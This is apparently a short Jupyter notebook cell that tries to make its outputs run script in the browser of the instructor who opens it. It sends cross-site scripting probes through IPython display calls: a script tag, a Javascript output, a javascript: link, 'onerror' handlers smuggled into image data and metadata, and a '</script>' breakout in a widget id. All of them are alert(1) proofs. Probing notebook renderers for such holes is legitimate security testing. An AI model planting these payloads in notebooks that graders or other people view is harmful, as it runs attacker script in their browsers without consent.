# tries: outputs that run a script where the instructor reads them
from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data

for one in (HTML("<script>alert(1)</script>"), Javascript("alert(1)"), Markdown("[x](javascript:alert(1))")):
    display(one)
publish_display_data({"image/png": "x\" onerror=alert(1)"}, {"image/png": {"width": "1 onerror=alert(1)"}})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>"}}, {})
